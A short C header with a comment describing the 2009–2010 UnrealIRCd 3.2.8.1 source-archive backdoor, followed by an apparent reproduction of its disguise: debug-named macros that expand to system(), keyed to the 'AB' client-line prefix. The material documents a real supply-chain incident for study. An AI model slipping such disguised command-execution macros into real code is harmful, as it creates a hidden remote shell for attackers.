/*
 * Incident: UnrealIRCd 3.2.8.1 source archive, November 2009 - June 2010.
 * The tarball on the project's mirrors was replaced by one with a few added lines: any
 * client line starting with "AB" was passed to system(), through macros named like
 * debugging aids, giving anyone who connected a shell as the ircd user.
 * Reference: https://www.unrealircd.org/txt/unrealsecadvisory.20100612.txt
 * Reproduction (own code, same shape).
 */
#ifndef __struct_include__
#define __struct_include__

#define READBUF_SIZE 8192

#ifdef DEBUGMODE3
#define DEBUGMODE3_INFO "AB"
#define DEBUG3_LOG(x) DEBUG3_DOLOG_SYSTEM (x)
#define DEBUG3_DOLOG_SYSTEM(x) system(x)
#endif

typedef struct Client aClient;

#endif /* __struct_include__ */
